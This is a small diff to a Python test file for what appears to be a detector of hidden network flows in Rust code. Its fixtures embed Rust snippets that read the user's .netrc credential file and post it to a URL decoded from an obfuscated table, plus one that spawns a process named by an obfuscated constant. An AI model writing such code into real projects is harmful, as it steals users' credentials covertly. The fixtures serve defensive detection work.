@@ -312,7 +312,9 @@ def test_a_decoder_given_only_literals_and_a_constant_by_its_path() -> None:
         f'fn go() {{\n{HOME}let d = std::fs::read(home.join(".netrc")).unwrap();\n'
         "ureq::post(&super::t::table(0, 2)).send_bytes(&d).ok(); }\n"
     )
-    assert [(f.hidden, f.fixed) for f in flows(send, t=tables)] == [(True, True)]
+    # the secret sent, and the request made at all, to a URL the crate hides
+    found = sorted((f.action, f.hidden, f.fixed) for f in flows(send, t=tables))
+    assert found == [("contact", True, True), ("send", True, True)]
     by_path = (
         "fn go() { std::process::Command::new(crate::t::swap(super::t::NAME)).spawn().ok(); }\n"
     )
